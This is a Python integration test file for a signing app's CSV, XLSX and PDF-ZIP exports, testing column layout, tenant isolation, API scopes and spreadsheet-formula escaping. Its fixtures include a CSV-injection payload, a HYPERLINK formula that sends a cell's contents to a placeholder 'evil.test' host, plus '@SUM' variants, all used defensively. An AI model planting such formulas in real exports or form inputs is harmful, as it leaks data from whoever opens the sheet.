"""Exports: CSV and XLSX with one column per field, safe in spreadsheets; a ZIP of sealed PDFs."""

import csv
import io
import uuid
import zipfile
from urllib.parse import quote

from litestar.testing import AsyncTestClient
from openpyxl import load_workbook

from runtime.accounts.service import create_api_key
from runtime.archive.exports import safe_cell
from runtime.file_names import sealed_pdf_name
from runtime.settings import Settings
from runtime.tables import Envelope
from tests.integration.conftest import (
    Org,
    create_envelope,
    fill_demo,
    import_template,
    new_org,
    path_of,
    run_jobs,
)
from tests.perf.gen_archive import generate, insert_with_piccolo

HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
FIELD_KEYS = ["full_name", "email", "company", "start_date", "notes", "accept_terms", "signature"]


def test_safe_cell_neutralises_formulas_and_keeps_numbers() -> None:
    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    # spreadsheets skip leading blanks before a formula (OWASP CSV injection)
    for text in ('  =HYPERLINK("http://evil.test")', " \t+1", "\n-1", "\u00a0@SUM(A1)"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("  Acme = good") == "  Acme = good"
    assert safe_cell("Acme = good") == "Acme = good"
    assert safe_cell(-12.5) == -12.5 and safe_cell(3) == 3
    assert safe_cell(None) == ""


async def _signed(client: AsyncTestClient, org: Org, settings: Settings) -> tuple[dict, dict]:
    template = await import_template(client, org)
    envelope = await create_envelope(
        client,
        org,
        template["id"],
        recipients=[{"role": "customer", "name": "@SUM(1+1)", "email": "mal@example.com"}],
        prefill={"email": "mal@example.com"},
        tags=["legal"],
    )
    await fill_demo(client, path_of(envelope["recipients"][0]["signing_url"]), name=HOSTILE)
    await run_jobs(settings)
    return template, envelope


async def test_csv_and_xlsx_have_a_column_per_field_and_no_live_formulas(
    client: AsyncTestClient, org: Org, settings: Settings
) -> None:
    template, envelope = await _signed(client, org, settings)
    response = await client.get(
        "/api/v1/envelopes/export.csv", params={"template_id": template["id"]}, headers=org.auth
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"  # once, not twice
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert list(row)[-len(FIELD_KEYS) :] == FIELD_KEYS
    assert row["envelope_id"] == envelope["id"]
    assert row["status"] == "completed"
    assert row["full_name"] == "'" + HOSTILE
    assert row["recipients"].startswith("'@SUM(1+1) <mal@example.com>")
    assert row["start_date"] and row["accept_terms"] == "Yes"
    assert row["tags"] == "legal"

    xlsx = await client.get(
        "/api/v1/envelopes/export.xlsx", params={"template_id": template["id"]}, headers=org.auth
    )
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content), read_only=True).active
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0][-len(FIELD_KEYS) :] == FIELD_KEYS
    name_cell = values[1][values[0].index("full_name")]
    assert name_cell == "'" + HOSTILE  # text, never a formula
    wb = load_workbook(io.BytesIO(xlsx.content))
    assert all(c.data_type != "f" for r in wb.active.iter_rows() for c in r)


async def test_exports_stream_a_few_hundred_rows_filtered(
    client: AsyncTestClient, settings: Settings
) -> None:
    from tests.perf.gen_archive import prepare_organisation

    org_id, versions = await prepare_organisation(f"Export {uuid.uuid4().hex[:6]}")
    org = Org(org_id, await create_api_key(org_id, "reader", ("read",)))
    data = generate(org_id, versions, 650, seed=5)  # more than one export batch (500)
    await insert_with_piccolo(data)
    response = await client.get(
        "/api/v1/envelopes/export.csv", params={"status": "completed"}, headers=org.auth
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == sum(e["status"] == "completed" for e in data.envelopes)
    assert len({r["envelope_id"] for r in rows}) == len(rows)
    assert "full_name" not in rows[0]  # answers per field only for one template


async def test_zip_of_sealed_pdfs_for_a_filter(
    client: AsyncTestClient, org: Org, settings: Settings
) -> None:
    template, envelope = await _signed(client, org, settings)
    await create_envelope(client, org, template["id"])  # not sealed: not in the ZIP
    response = await client.get(
        "/api/v1/envelopes/export.zip", params={"tag": "legal"}, headers=org.auth
    )
    assert response.status_code == 200
    assert response.headers["x-formseal-files"] == "1"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    # each PDF under the name it downloads with, not "<envelope uuid>.pdf"
    name = sealed_pdf_name(template["name"], envelope["id"])
    assert name.endswith(f" – {envelope['id'][:8]}.pdf") and len(name) < 60
    assert sorted(archive.namelist()) == sorted([name, "manifest.csv"])
    sealed = await client.get(f"/api/v1/envelopes/{envelope['id']}/sealed.pdf", headers=org.auth)
    assert archive.read(name) == sealed.content
    assert quote(name, safe="") in sealed.headers["content-disposition"]
    manifest = archive.read("manifest.csv").decode("utf-8-sig")
    assert f"{name},{envelope['id']}," in manifest

    stranger = await new_org("Other")
    theirs = await client.get("/api/v1/envelopes/export.zip", headers=stranger.auth)
    assert theirs.headers["x-formseal-files"] == "0"
    other_template = await client.get(
        "/api/v1/envelopes/export.csv",
        params={"template_id": template["id"]},
        headers=stranger.auth,
    )
    assert other_template.status_code == 404
    no_scope = Org(org.id, await create_api_key(org.id, "sender", ("send",)))
    refused = await client.get("/api/v1/envelopes/export.csv", headers=no_scope.auth)
    assert refused.status_code == 403


async def test_a_formula_after_leading_spaces_is_text_in_csv_and_xlsx(
    client: AsyncTestClient, org: Org
) -> None:
    """'  =HYPERLINK(…)' is as dangerous as without the spaces: spreadsheets read past them.
    Forms strip answers today; an answer stored otherwise (an older version, a prefill
    written to the database) must not become a live formula either."""
    spaced = "  " + HOSTILE
    template = await import_template(client, org)
    envelope = await create_envelope(client, org, template["id"])
    await Envelope.update(
        {Envelope.answers: {"full_name": spaced, "company": "\n\t@SUM(A1)"}}
    ).where(Envelope.id == uuid.UUID(envelope["id"]))
    params = {"template_id": template["id"]}
    response = await client.get("/api/v1/envelopes/export.csv", params=params, headers=org.auth)
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["full_name"] == "'" + spaced and row["company"] == "'\n\t@SUM(A1)"
    xlsx = await client.get("/api/v1/envelopes/export.xlsx", params=params, headers=org.auth)
    sheet = load_workbook(io.BytesIO(xlsx.content), read_only=True).active
    header, cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert cells[header.index("full_name")] == "'" + spaced


async def test_sender_column_says_what_made_an_envelope_without_a_person(
    client: AsyncTestClient, org: Org
) -> None:
    """As the envelope lists: the person's email, else "API", "Embedded form", …"""
    template = await import_template(client, org)
    made = [(await create_envelope(client, org, template["id"]))["id"] for _ in range(3)]
    await Envelope.update({Envelope.sent_via: "embed"}).where(Envelope.id == uuid.UUID(made[1]))
    await Envelope.update(
        {Envelope.sent_via: "designer", Envelope.sender_email: "=ops@example.com"}
    ).where(Envelope.id == uuid.UUID(made[2]))
    expected = {made[0]: "API", made[1]: "Embedded form", made[2]: "'=ops@example.com"}
    params = {"template_id": template["id"]}
    response = await client.get("/api/v1/envelopes/export.csv", params=params, headers=org.auth)
    rows = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert {r["envelope_id"]: r["sender"] for r in rows} == expected
    xlsx = await client.get("/api/v1/envelopes/export.xlsx", params=params, headers=org.auth)
    header, *cells = [list(r) for r in load_workbook(io.BytesIO(xlsx.content)).active.values]
    column = header.index("sender")
    assert {c[0]: c[column] for c in cells} == expected
